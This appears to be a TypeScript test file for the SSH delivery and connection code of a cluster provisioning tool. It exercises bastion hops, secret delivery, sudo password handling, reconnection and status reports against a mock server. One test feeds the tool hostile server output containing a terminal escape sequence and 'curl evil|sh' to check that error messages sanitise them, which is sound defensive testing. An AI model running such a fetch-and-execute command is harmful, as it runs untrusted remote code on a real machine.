import assert from "node:assert/strict";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Socket } from "node:net";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { mock } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import type { NodePlan, SshTarget } from "../../config/plan";
import { bring } from "../../ssh/delivery";
import { Dialer } from "../../ssh/dial";
import { run } from "../../ssh/run";
import { runNow } from "../../ssh/runNow";
import { Wire } from "../../ssh/wire";
import { askAll } from "../../status/ask";
import { generateKeys, SshServer } from "../plugins/sshServer";

const { private: privateKey, public: publicKey } = generateKeys();

async function until(what: string, done: () => boolean): Promise<void> {
  for (let i = 0; !done(); i++) {
    assert.ok(i < 100, `not within a second: ${what}`);
    await sleep(10);
  }
}

/** Whatever a step needs, the machine has to let us in first. */
const probe = (node: NodePlan) => new Wire(node).parts();

describe("a machine, before the first step that runs on it", () => {
  let server: SshServer;
  let jump: SshServer;
  beforeEach(async () => {
    [server, jump] = [await SshServer.listen(), await SshServer.listen()];
    for (const each of [server, jump]) each.authorized.push(publicKey);
  });
  afterEach(() => Promise.all([server.close(), jump.close()]));

  const at = (
    { port, hostKey }: Pick<SshServer, "port" | "hostKey">,
    more: Partial<SshTarget> = {},
  ) => ({ host: "127.0.0.1", port, user: "root", hostKey, privateKey, ...more });
  const node = (more: Partial<SshTarget> = {}) =>
    ({ name: "worker-01", ip: "10.0.0.21", ssh: at(server, more) }) as NodePlan;

  it("is let pass when it runs what it is given, whatever it prints around it", async () => {
    server.shell = (command) =>
      `printf 'Welcome\\033[2J'; trap 'echo Bye; echo x >&2' EXIT; ${command}`;
    await probe(node());
    assert.deepEqual(server.log.commands, ["timeout --kill-after=10 20 bash -s -- wire"]);
  });

  it("shares its way through the jump host with others", async () => {
    const ssh = { bastion: at(jump) };
    let most = 0;
    server.shell = (command) => {
      most = Math.max(most, jump.connections);
      return command;
    };
    await Promise.all([probe(node(ssh)), probe(node(ssh)), probe(node(ssh))]);
    assert.deepEqual([server.log.commands.length, most], [3, 1]);
  });

  it("whose jump host lets nobody in is one of twenty that learn it from one login", async () => {
    jump.authorized.splice(0);
    const bastion = at(jump);
    const ask = () =>
      probe(node({ bastion })).then(
        () => "nothing",
        ({ message }: Error) => message,
      );
    const first = await Promise.all(Array.from({ length: 19 }, ask));
    for (const said of [...first, await ask()])
      assert.match(said, /^\ngroundwork: the bastion of worker-01 .* does not let user root in/);
    assert.equal(jump.dialled, 1, "its sshd holds each failed login against us");
  });

  for (const [what, shell, says] of [
    ["ends at once", "exit 0", /it says nothing, and ends with status 0/],
    [
      "runs what somebody else wants",
      "cat >/dev/null; printf '\\033[31mmaintenance\\nmore'",
      /it says "\[31mmaintenance", and ends with status 0/,
    ],
    ["sends back what it is given", "cat", /it says "cd .*", and ends with status 0/],
    ["is nologin", "echo This account is not available; exit 1", /"This account .*with status 1/],
    ["has no bash", "echo 'timeout: bash: No such file' >&2; exit 127", /"timeout: bash: No.* 127/],
  ] as const) {
    it(`is refused by name when its shell ${what}`, async () => {
      server.shell = () => shell;
      await assert.rejects(probe(node()), ({ message }: Error) => {
        const refused =
          /^\ngroundwork: worker-01 \(127\.0\.0\.1\) lets user root in, but does not run what it is given: (.*); nothing was written\n {2}what to do: /;
        assert.match(refused.exec(message)?.[1] ?? message, says);
        return true;
      });
      await until("ssh/wire.ts lets go of it", () => server.connections === 0);
    });
  }

  it("is told to lack another key, a login, or a server, each with what to do", async () => {
    await assert.rejects(
      probe(node({ hostKey: jump.hostKey })),
      /groundwork: worker-01 .* shows another host key .*\n {2}the SSH client says: host key mismatch/,
    );
    const bastion = at(jump, { hostKey: server.hostKey });
    await assert.rejects(
      probe(node({ bastion })),
      /groundwork: the bastion of worker-01 .* shows another host key/,
    );
    server.authorized.length = 0;
    await assert.rejects(probe(node()), /groundwork: worker-01 .* does not let user root in/);
    const closed = node();
    await server.close();
    const began = Date.now();
    await assert.rejects(
      probe(closed),
      /groundwork: worker-01 .* does not answer over SSH.*\n.*ECONNREFUSED/,
    );
    assert.ok(Date.now() - began > 1000, "it was not tried again");
    server = await SshServer.listen();
  }).timeout(10_000);

  it("is told to hang when it takes the connection and says nothing for 20 s", async () => {
    const sockets: Socket[] = [];
    const silent = createServer((socket) => sockets.push(socket)).listen(0, "127.0.0.1");
    await once(silent, "listening");
    const { port } = silent.address() as AddressInfo;
    mock.timers.enable({ apis: ["setTimeout"] });
    try {
      const asked = assert.rejects(
        probe(node({ port })),
        new RegExp(`worker-01 \\(127.0.0.1:${port}\\) hangs: `),
      );
      await once(silent, "connection");
      for (let i = 0; i < 3; i++) await new Promise(setImmediate);
      mock.timers.tick(20_000);
      await asked;
      assert.equal(sockets.length, 1);
    } finally {
      mock.timers.reset();
      sockets.forEach((socket) => socket.destroy());
      silent.close();
    }
  });

  /** What is stored, and where: the machine here is this one, and its folders are others. */
  const stored = () =>
    server.log.programs.map((program) =>
      [...program.matchAll(/^into=(\S+)|^put (\S+)/gm)].map(([, folder, name]) => folder ?? name),
    );

  it("gets what a step needs in one go: what stays there once, and what is secret into memory", async () => {
    server.shell = () =>
      'cat >/dev/null; printf \'\\ngroundwork-report: {"uid":0,"parts":["b-2"]}\\n\'';
    const wire = new Wire(node());
    const delivery = (name: string, ...parts: string[]) => ({
      name,
      parts: parts.map((name) => ({ name, text: `${name}\n` })),
      inMemory: name === "preflight",
    });
    const secrets = new Map([["0123", "hunter2"]]);
    const others = [
      delivery("preflight", "z-9"),
      delivery("c", "b-2", "c-3"),
      delivery("d", "d-4"),
    ];
    await bring(wire, delivery("preflight", "z-9"), new Map(), others, "id");
    await bring(wire, delivery("c", "b-2", "c-3"), secrets, others, "id");
    await bring(wire, delivery("d", "d-4"), new Map(), others, "id");
    assert.equal(server.log.commands.length, 3, "the last step needs nothing that is not there");
    assert.deepEqual(stored().slice(1), [
      ["/run/groundwork/in/preflight-id", "z-9"],
      ["/var/lib/groundwork/programs", "c-3", "d-4", "/run/groundwork/in/c", "0123"],
    ]);
  });

  it("has it for root alone, whole, and in place of what lay there", async () => {
    const root = mkdtempSync(join(tmpdir(), "groundwork-delivery-"));
    try {
      mkdirSync(join(root, "bin"));
      const sync = `#!/bin/sh\nprintf '%s\\n' "$@" >>${root}/synced\n`;
      writeFileSync(join(root, "bin/sync"), sync, { mode: 0o755 });
      const moved = `sed 's#/\\(run\\|var/lib\\)/\\(groundwork\\|cluster-state\\)#${root}&#g'`;
      mkdirSync(join(root, "var/lib/cluster-state"), { recursive: true });
      writeFileSync(join(root, "var/lib/cluster-state/lock"), "cluster_id=id\n");
      server.shell = () => `umask 022; ${moved} | PATH=${root}/bin:$PATH bash -s`;
      const wire = new Wire(node());
      const parts = [{ name: "kubelet.sh-1", text: "echo\n\n" }];
      const step = { name: "kubelet", parts, inMemory: false };
      const inbox = "run/groundwork/in/kubelet";
      await bring(wire, step, new Map([["0123", "hunter2"]]), [], "id");
      await bring(wire, step, new Map([["4567", "it's $HOME\\\n"]]), [], "id");
      const read = (path: string) => readFileSync(join(root, path), "utf8");
      assert.equal(read("var/lib/groundwork/programs/kubelet.sh-1"), "echo\n\n");
      assert.equal(read(`${inbox}/4567`), "it's $HOME\\\n");
      const rights = (path: string) => (statSync(join(root, path)).mode & 0o777).toString(8);
      for (const path of ["var/lib/groundwork/programs", inbox]) {
        const lies = readdirSync(join(root, path));
        assert.deepEqual(lies, [path === inbox ? "4567" : "kubelet.sh-1"], "ssh/delivery.ts");
        assert.deepEqual([path, ...lies.map((one) => `${path}/${one}`)].map(rights), [
          "700",
          "600",
        ]);
        assert.equal(readdirSync(dirname(join(root, path))).length, 1, `beside ${path}`);
      }
      assert.match(read("synced"), /^\S+\/programs\.new\.\d+\/kubelet\.sh-1\n$/);
    } finally {
      rmSync(root, { recursive: true });
    }
  });

  it("is given no text that would end before its end", async () => {
    const secrets = new Map([["0123", "a\nGROUNDWORK_END\nb"]]);
    const step = { name: "kubelet", parts: [], inMemory: false };
    await assert.rejects(
      bring(new Wire(node()), step, secrets, [], "id"),
      /holds the line GROUNDWORK_END/,
    );
  });

  it("that takes nothing is named, with what it says and what to do", async () => {
    const wire = new Wire(node());
    await wire.parts();
    server.shell = () =>
      "cat >/dev/null; printf 'mkdir: No space \\033[2Jleft on device\\n' >&2; exit 1";
    const step = { name: "worker-01-claim", parts: [], inMemory: false };
    await assert.rejects(
      bring(wire, step, new Map([["0123", "hunter2"]]), [], "id"),
      /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) does not take what worker-01-claim needs there: mkdir: No space  \[2Jleft on device\n {2}what to do: /,
    );
  });

  it("runs programs whole whether sudo asks for its password or not, and never takes that for one", async () => {
    const folder = mkdtempSync(join(tmpdir(), "groundwork-sudo-"));
    const asks = join(folder, "asks");
    // Which asks, or has no reason to.
    const sudo =
      `#!/bin/sh\nif [ -e ${asks} ]; then read -r line; echo "$line" >>${folder}/asked; fi\n` +
      `until [ "$1" = sh ] || [ "$1" = timeout ] || [ "$1" = true ]; do shift; done; exec "$@"\n`;
    writeFileSync(join(folder, "sudo"), sudo, { mode: 0o755 });
    server.shell = (command) => `PATH=${folder}:$PATH; ${command}`;
    const program = "main() { cat; echo here; }\nmain\n\nthe end\n";
    for (const asking of [true, false]) {
      if (asking) writeFileSync(asks, "");
      else rmSync(asks);
      const wire = new Wire(node({ user: "admin", sudoPassword: "echo hunter2" }));
      const { output, errors } = await wire.run(program, 5);
      assert.deepEqual([output, errors], ["\nthe end\nhere\n", ""]);
    }
    // Before all else it is tried alone, and so it is before each program.
    assert.equal(readFileSync(join(folder, "asked"), "utf8"), "echo hunter2\n".repeat(5));
    assert.ok(!server.log.commands.some((command) => command.includes("hunter2")));
    rmSync(folder, { recursive: true });
  });

  describe("whose shell takes what it is given for commands", () => {
    const password = "hunter2-SECRET; and words";
    const admin = () => node({ user: "admin", sudoPassword: password });
    const leaks = /hunter2|SECRET|words/;
    const asked = async () => (await askAll([admin()])).map((answer) => ({ ...answer, node: "" }));

    it("never gets the password, and is told so", async () => {
      server.shell = () => "bash";
      await assert.rejects(probe(admin()), ({ message }: Error) => {
        assert.match(
          message,
          /lets user admin in, but does not run what it is given: it says nothing/,
        );
        return true;
      });
      const answer = await asked();
      assert.doesNotMatch(JSON.stringify([answer, ...server.log.programs]), leaks);
    });

    for (const [when, takes] of [
      ["the password is tried", /sudo/],
      ["a program runs", /bash -s/],
    ] as const)
      it(`says the password once ${when}, and nobody says it again`, async () => {
        server.shell = (command) =>
          takes.test(command) ? "bash" : command.includes("sudo") ? "exit 0" : command;
        const said = await runNow(new Wire(admin()), "invite", "exit 3\n").then(
          () => "nothing",
          ({ message }: Error) => message,
        );
        assert.match(said, /command not found/);
        assert.match(server.log.programs.join(), /hunter2/);
        assert.doesNotMatch(said, leaks);
        server.shell = (command) =>
          takes.test(command) ? "bash; exit 3" : "echo; echo groundwork-shell";
        const answer = await asked();
        assert.doesNotMatch(JSON.stringify(answer), leaks);
      });
  });

  it("is told to lack what we asked for, and nothing that it names itself", async () => {
    const lines =
      "\\ngroundwork-shell\\ngroundwork-missing \\033]0;owned\\007 bash; curl evil|sh\\n";
    const more = "groundwork-missing bash\\n".repeat(2);
    for (const [says, told] of [
      [lines, /does not run what it is given/],
      [lines + more, /has no bash in the PATH .*\n.*apt-get install bash\)/],
    ] as const) {
      server.shell = () => `cat >/dev/null; printf '${says}'`;
      await assert.rejects(probe(node()), ({ message }: Error) => {
        assert.match(message, told);
        assert.doesNotMatch(message, /\u001b|evil/);
        return true;
      });
    }
  });

  it("is believed no user's name that could be none", async () => {
    server.shell = () => `echo 'Please login as the user "${"a".repeat(500)}"'; exit 1`;
    await assert.rejects(probe(node()), ({ message }: Error) => {
      assert.doesNotMatch(message, /set ssh\.user to a{33}/);
      return true;
    });
  });

  describe("with folders of its own", () => {
    let root: string;
    beforeEach(() => {
      root = mkdtempSync(join(tmpdir(), "groundwork-wire-"));
      mkdirSync(join(root, "var/lib/cluster-state"), { recursive: true });
      server.shell = (command) =>
        `sed 's#\\([= ]\\)/\\(run\\|var\\)/#\\1${root}/\\2/#g' | ${command}`;
    });
    afterEach(() => rmSync(root, { recursive: true }));
    const heldBy = (id: string) =>
      writeFileSync(join(root, "var/lib/cluster-state/lock"), `cluster_id=${id}\nnode=a\n`);
    const files = () =>
      readdirSync(root, { recursive: true, withFileTypes: true })
        .filter((entry) => !entry.isDirectory() || entry.name.includes(".new."))
        .map(({ name }) => name)
        .filter((name) => name !== "lock")
        .sort();
    const part = { name: "c-3", text: "c\n" };
    const step = { name: "worker-01-prepare", parts: [part], inMemory: false };
    const early = { name: "worker-01-claim", parts: [part], inMemory: true };
    const secrets = new Map([["0123", "hunter2"]]);
    const brought = (what: typeof step, texts = secrets) =>
      bring(new Wire(node()), what, texts, [], "id");

    it("gets nothing that lasts and no secret where another cluster holds it, or nobody", async () => {
      for (const holder of [undefined, "other", "id-2"]) {
        if (holder !== undefined) heldBy(holder);
        await assert.rejects(
          brought(step),
          /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) is not this cluster's: its lock \(\S+\) .* worker-01-prepare\n {2}what to do: /,
        );
        assert.deepEqual(files(), []);
      }
      await brought(early, new Map());
      assert.deepEqual(files(), ["c-3"]);
      assert.ok(existsSync(join(root, "run/groundwork/in/worker-01-claim-id/c-3")));
    });

    it("gets anew what is empty there", async () => {
      heldBy("id");
      const kept = join(root, "var/lib/groundwork/programs");
      mkdirSync(kept, { recursive: true });
      for (const [name, text] of [
        ["b-2", "b\n"],
        ["c-3", ""],
      ] as const)
        writeFileSync(join(kept, name), text);
      assert.deepEqual([...(await new Wire(node()).parts())], ["b-2"]);
      await brought(step, new Map());
      assert.equal(readFileSync(join(kept, "c-3"), "utf8"), "c\n");
    });

    it("has all of it, for root alone, or nothing of it when it has no room", async () => {
      heldBy("id");
      await brought(step);
      assert.deepEqual(files(), ["0123", "c-3"]);
      const secret = join(root, "run/groundwork/in/worker-01-prepare/0123");
      assert.deepEqual(
        [readFileSync(secret, "utf8"), statSync(secret).mode & 0o777],
        ["hunter2\n", 0o600],
      );
      rmSync(join(root, "run"), { recursive: true });
      const moves = server.shell;
      server.shell = (command) =>
        `sed 's/^put() {.*/& ; put() { echo "no room" >\\&2; return 1; }/' | ${moves(command)}`;
      await assert.rejects(
        brought({ ...step, name: "worker-01-kubelet" }),
        /does not take .*: no room/,
      );
      assert.deepEqual(files(), ["c-3"]);
    });
  });

  it("that cuts the connection off is asked once more", async () => {
    const wire = new Wire(node());
    await wire.parts();
    server.drop();
    const { status, output } = await wire.run("echo here", 5);
    assert.deepEqual([status, output], [0, "here\n"]);
  });

  it("that cut the connection off before says so at once, and nobody waits for it", async () => {
    const client = await new Dialer({ connect: 5, ready: 5, attempts: 1 }).dial(node().ssh);
    server.drop();
    await once(client, "close");
    const timers = () =>
      process.getActiveResourcesInfo().filter((kind) => kind === "Timeout").length;
    const before = timers();
    await assert.rejects(run(client, "true", "", 60), /Not connected/);
    assert.equal(timers(), before, "the program would not end for a minute");
  });

  it("is found again when its bastion has cut everybody off", async () => {
    const bastion = at(jump);
    const wire = new Wire(node({ bastion }));
    await wire.parts();
    jump.drop();
    while (jump.connections > 0) await sleep(5);
    await sleep(20);
    const { output } = await wire.run("echo here", 5);
    assert.equal(output, "here\n");
    await probe(node({ bastion }));
    assert.equal(jump.dialled, 2);
  }).timeout(10_000);

  it("that gives few sessions at a time is asked by turns", async () => {
    server.sessions = 2;
    const wire = new Wire(node());
    const runs = Array.from({ length: 6 }, (_, i) => wire.run(`sleep 0.1; echo ${i}`, 5));
    const outputs = (await Promise.all(runs)).map(({ output }) => output.trim());
    assert.deepEqual(outputs, ["0", "1", "2", "3", "4", "5"]);
    assert.equal(server.dialled, 1);
  });

  it("is asked again where it let nobody in", async () => {
    const wire = new Wire(node());
    const [key = ""] = server.authorized.splice(0);
    await assert.rejects(wire.parts(), /does not let user root in/);
    server.authorized.push(key);
    await wire.parts();
  });

  it("runs eight programs at a time, and each of more", async () => {
    const folder = mkdtempSync(join(tmpdir(), "groundwork-sessions-"));
    const warned: Error[] = [];
    const warn = (warning: Error) => warned.push(warning);
    process.on("warning", warn);
    try {
      const wire = new Wire(node());
      const program = `mkdir ${folder}/$$; sleep 0.3; ls ${folder} | wc -l; rmdir ${folder}/$$`;
      const ran = await Promise.all(Array.from({ length: 20 }, () => wire.run(program, 5)));
      const most = Math.max(...ran.map(({ output }) => Number(output)));
      assert.ok(most > 1 && most <= 8, `sshd allows ten sessions; there were ${most}`);
      const late = sleep(5000, undefined, { ref: false }).then(() =>
        assert.fail("ssh/wire.ts: its turn never comes"),
      );
      await Promise.race([wire.run("true", 5), late]);
      const listeners = warned.filter(({ name }) => name === "MaxListenersExceededWarning");
      assert.deepEqual(listeners, [], "ssh/run.ts");
    } finally {
      process.off("warning", warn);
      rmSync(folder, { recursive: true });
    }
  }).timeout(20_000);

  it("that does not answer is let go of", async () => {
    const wire = new Wire(node());
    await wire.parts();
    server.shell = (command) =>
      server.log.commands.length % 2 === 1 ? command : "cat >/dev/null; sleep 1";
    await assert.rejects(
      wire.run("echo here", 0.2 - 10),
      /worker-01 .* did not answer within .*\n {2}what to do: /,
    );
    await until("ssh/wire.ts closes both connections", () => server.connections === 0);
    assert.equal(server.dialled, 2);
  });

  it("is reached again through a jump host that cut the connection off", async () => {
    const wire = new Wire(node({ bastion: at(jump) }));
    await wire.parts();
    jump.drop();
    const { output } = await wire.run("echo here", 5);
    assert.deepEqual([output, jump.dialled], ["here\n", 2], "ssh/dial.ts keeps one that is dead");
  });

  it("that cuts off several programs is dialled once more for all of them", async () => {
    const wire = new Wire(node());
    await wire.parts();
    let hung = 0;
    server.shell = (command) => {
      if (hung === 2) return command;
      if (++hung === 2) setTimeout(() => server.drop(), 50);
      return "cat >/dev/null; sleep 1";
    };
    const ran = await Promise.all(["one", "two"].map((word) => wire.run(`echo ${word}`, 5)));
    assert.deepEqual(
      ran.map(({ output }) => output),
      ["one\n", "two\n"],
    );
    assert.deepEqual([server.dialled, server.connections], [2, 1], "ssh/wire.ts leaves one open");
  });

  it("that cuts off a program twice is named, and runs it no third time", async () => {
    const wire = new Wire(node());
    await wire.parts();
    let ran = 0;
    server.shell = (command) => {
      // A greeting first, each time.
      if (server.log.commands.length % 2 === 1) return command;
      ran += 1;
      setTimeout(() => server.drop(), 50);
      return "cat >/dev/null; sleep 1";
    };
    await assert.rejects(wire.run("echo here", 5), /^Error: \ngroundwork: worker-01 /);
    assert.equal(ran, 2);
  });

  it("that is asked for its status is measured by its report's beginning, and not read without end", async () => {
    const report = `printf '\\ngroundwork-report: {"clock":%s' "$(date +%s.%N)"; sleep 1; echo ',"host":"a","lock":null}'`;
    server.shell = () => `cat >/dev/null; echo Welcome; sleep 1; ${report}; echo Bye`;
    const [told] = await askAll([node()]);
    assert.ok(told && "report" in told, JSON.stringify(told));
    const { offset, error } = told.clock;
    // The noise came a second before the report, and its end a second behind: read in the middle of the first second.
    assert.ok(error > 0.4 && error < 0.9, `an error of ${error} s`);
    assert.ok(Math.abs(offset) - error < 0.1, `an offset of ${offset} s`);
    server.shell = () => "cat >/dev/null; yes";
    const [flood] = await askAll([node()]);
    assert.ok(flood && "failure" in flood);
    assert.match(flood.failure, /^it printed more than 4194304 characters$/);
  }).timeout(20_000);
});
